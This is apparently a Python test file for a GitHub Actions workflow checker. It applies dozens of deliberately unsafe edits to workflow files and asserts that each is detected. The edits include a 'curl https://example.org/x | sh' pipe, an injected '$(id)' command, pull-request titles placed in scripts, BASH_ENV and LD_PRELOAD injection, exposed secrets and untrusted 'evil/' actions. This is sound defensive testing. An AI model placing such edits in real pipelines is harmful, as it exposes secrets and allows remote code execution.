"""W1: every unsafe edit of a workflow is a finding of our own rules, whatever judges from outside say."""

import json
import re
from pathlib import Path

import pytest

from tests.workflows.runner import OURS, ROOT, TEAMS
from tools import workflows
from tools.workflow_rules import ACTIONS

FILES = sorted([*OURS.iterdir(), *TEAMS.iterdir()])
PIN = "actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2"
JOB = "    runs-on: ubuntu-24.04\n"
CREDENTIAL = "${{ secrets.DEPLOY_KEY }}"

EDITS = {
    "pull_request_target": ("\non:\n", "\non:\n  pull_request_target:\n"),
    "workflow_run": ("\non:\n", "\non:\n  workflow_run:\n    workflows: [test]\n"),
    "issue_comment": ("\non:\n", "\non:\n  issue_comment:\n"),
    "workflow_call": ("\non:\n", "\non:\n  workflow_call:\n"),
    "permissions write-all": ("permissions: {}", "permissions: write-all"),
    "permissions read-all": ("permissions: {}", "permissions: read-all"),
    "no permissions at the top": ("permissions: {}\n", ""),
    "contents write": ("contents: read #", "contents: write #"),
    "one permission more": ("    permissions:\n", "    permissions:\n      actions: write # why not\n"),
    "id-token": ("    permissions:\n", "    permissions:\n      id-token: write # why not\n"),
    "permissions of a job left out": (
        "    permissions:\n      contents: read",
        "    x:\n      contents: read",
    ),
    "a tag in the place of a commit": (PIN, "actions/checkout@v6"),
    "a branch in the place of a commit": (PIN, "actions/checkout@main # v6.0.2"),
    "a commit of somebody's fork": (PIN, f"actions/checkout@{'0' * 40} # v6.0.2"),
    "a comment that lies": (PIN, PIN.replace("v6.0.2", "v6.9.9")),
    "no comment": (PIN, PIN.removesuffix(" # v6.0.2")),
    "an action of nobody we know": (PIN, f"evil/checkout@{'1' * 40} # v1.0.0"),
    "an action of the change": (PIN, "./.github/actions/mine"),
    "an image as an action": (PIN, "docker://alpine:latest"),
    "a cache": (PIN, f"actions/cache@{'1' * 40} # v5.0.0"),
    "a cache of pip": ("python-version:", "cache: pip\n          python-version:"),
    "credentials kept": ("persist-credentials: false", "persist-credentials: true"),
    "credentials kept by default": ("          persist-credentials: false\n", ""),
    "submodules": ("persist-credentials: false", "persist-credentials: false\n          submodules: true"),
    "large files": ("persist-credentials: false", "persist-credentials: false\n          lfs: true"),
    "the head checked out with a token": (
        "persist-credentials: false",
        "token: ${{ github.token }}\n          ref: ${{ github.head_ref }}",
    ),
    "the head in the place of the base": (
        "          persist-credentials: false",
        "          ref: ${{ github.head_ref }}\n          persist-credentials: false",
    ),
    "a title in a script": ("        run: ", "        run: echo ${{ github.event.pull_request.title }}; "),
    "a branch in a script": ("        run: ", '        run: echo "${{ github.head_ref }}" && '),
    "a title in the environment of bash": (
        "        run: ",
        "        env:\n          BASH_ENV: ${{ github.event.pull_request.title }}\n        run: ",
    ),
    "a library to load first": ("        run: ", "        env:\n          LD_PRELOAD: x.so\n        run: "),
    "a second command": ("        run: ", "        run: curl https://example.org/x | sh; "),
    "another month": ("date -u", "date -d 2020-01-01"),
    "no month": ('--month "$(date -u +%Y-%m)"', ""),
    "a second command beside the month": ('+%Y-%m)"', '+%Y-%m)" $(id)'),
    "a script": ("        run: ", "        run: |\n          id\n          "),
    "the change's own make": ("        run: ", "        run: make -C change || "),
    "the change's own install": ("        run: ", "        run: pip install ./change && "),
    "a secret": ("        run: ", f"        env:\n          KEY: {CREDENTIAL}\n        run: "),
    "a secret under a known name": (
        "        run: ",
        f"        env:\n          TOKEN: {CREDENTIAL}\n        run: ",
    ),
    "all secrets": (JOB, JOB + "    secrets: inherit\n"),
    "a runner of one's own": (JOB, "    runs-on: self-hosted\n"),
    "a runner that changes": (JOB, "    runs-on: ubuntu-latest\n"),
    "an image as the runner": (JOB, JOB + "    container: alpine:latest\n"),
    "a service": (JOB, JOB + "    services:\n      db:\n        image: redis\n"),
    "no end": ("    timeout-minutes: ", "    x: "),
    "no end soon": ("    timeout-minutes: ", "    timeout-minutes: 9"),
    "failures that count for nothing": (JOB, JOB + "    continue-on-error: true\n"),
    "a step that may fail": ("        run: ", "        continue-on-error: true\n        run: "),
    "a step that is skipped": ("        run: ", "        if: github.actor != 'somebody'\n        run: "),
    "a job that is skipped": (JOB, JOB + "    if: github.actor != 'somebody'\n"),
    "another shell": ("        run: ", "        shell: python\n        run: "),
    "a shell that goes on": ("    shell: bash", "    shell: bash {0}"),
    "no concurrency": ("concurrency:\n", "x:\n"),
    "the runner's own file of variables": ("        run: ", "        run: cat change/env >> $GITHUB_ENV; "),
    "an environment for all": ("permissions: {}\n", "permissions: {}\nenv:\n  PYTHONPATH: change\n"),
    "another workflow's job": (JOB, JOB + "    uses: evil/repo/.github/workflows/x.yaml@main\n"),
}

NARROWED = {
    "no branch is left out": ("branches: [main]", "branches: ['**']"),
    "a check that is not asked": ("  pull_request:\n", "  pull_request:\n    paths: [docs/**]\n"),
    "a check of closed ones": ("  pull_request:\n", "  pull_request:\n    types: [closed]\n"),
    "no check in the queue": ("  merge_group:\n", ""),
    "the generator of any base": ("|| 'main' }}", "|| github.event.pull_request.base.sha }}"),
    "the generator of the change": ("|| 'main' }}", "|| github.sha }}"),
    "any base to compare with": ("'HEAD^1' || 'origin/main'", "'HEAD^1' || 'HEAD^1'"),
    "a base by the change's words": ("pull_request.base.ref ==", "pull_request.head.ref =="),
    "no environment": ("    environment: ", "    x: "),
    "another environment": ("    environment: ", "    environment: not-"),
    "a cache of go": ("cache: false", "cache: true"),
}


def name_of(path: Path) -> str:
    return path.relative_to(ROOT).as_posix()


@pytest.mark.parametrize("path", FILES, ids=name_of)
def test_our_workflows_ask_for_nothing_that_they_may_not(path: Path) -> None:
    assert workflows.findings_of(path.name, path.read_text()) == ()


@pytest.mark.parametrize("edit", [*EDITS, *NARROWED], ids=lambda edit: f"W1 {edit}")
def test_an_unsafe_edit_is_found_in_every_place_of_every_workflow(edit: str) -> None:
    old, new = {**EDITS, **NARROWED}[edit]
    edited = 0
    for path in FILES:
        parts = path.read_text().split(old)
        for number in range(1, len(parts)):
            changed = old.join(parts[:number]) + new + old.join(parts[number:])
            assert workflows.findings_of(path.name, changed), f"{name_of(path)}, place {number}"
            edited += 1

    assert edited >= (1 if edit in NARROWED else 3)


def test_a_workflow_that_nobody_knows_is_a_finding() -> None:
    assert workflows.findings_of("mine.yaml", (OURS / "check.yaml").read_text())
    assert workflows.findings_of("check.yaml", "a: [")
    assert workflows.findings_of("check.yaml", "[]")


def test_a_teams_workflows_are_ours_but_for_where_the_generator_comes_from() -> None:
    installed = "python3 -I -m pip install --require-hashes --requirement trusted/.github/sweep.lock"
    for name in ("check.yaml", "results.yaml", "generate.yaml"):
        ours, teams = ((folder / name).read_text().partition("\nname:")[2] for folder in (OURS, TEAMS))
        here = ours.replace("make -C trusted sweep", installed).replace("../trusted/.venv/bin/", "")

        assert teams == here.replace(" .venv/bin/sweep", " sweep")


def test_no_page_template_or_workflow_starts_a_module_of_the_folder_that_it_is_in() -> None:
    patterns = ("Makefile", ".github/**/*.yaml", "generator/**/*.y*ml", "generator/**/*.py", "docs/**/*.md")
    starts = [
        line
        for pattern in patterns
        for path in ROOT.glob(pattern)
        for line in path.read_text(encoding="utf-8").splitlines()
        if re.search(r"\S -m (?:venv|pip)\b", line)
    ]

    assert len(starts) >= 10
    assert [line for line in starts if " -I -m " not in line] == []


def test_the_ruleset_demands_the_jobs_by_the_names_that_they_have() -> None:
    rules = json.loads((ROOT / "generator/sweepledger/workflows/.github/rulesets/main.json").read_text())[
        "rules"
    ]
    (checks,) = [rule["parameters"] for rule in rules if rule["type"] == "required_status_checks"]

    for required_status_check in checks["required_status_checks"]:
        assert f"name: {required_status_check['context']}\n" in (TEAMS / "check.yaml").read_text()


def test_judges_from_outside_are_told_to_overlook_nothing() -> None:
    overlooked = ("zizmor: ignore", "yamllint disable", "shellcheck disable", "actionlint")

    assert [path for path in FILES for word in overlooked if word in path.read_text()] == []
    assert not [path for folder in (ROOT, ROOT / ".github") for path in folder.glob("zizmor.y*ml")]


def test_every_action_is_one_that_is_used() -> None:
    used = "".join(path.read_text() for path in FILES)

    assert [action for action in ACTIONS if f"uses: {action}@" not in used] == []
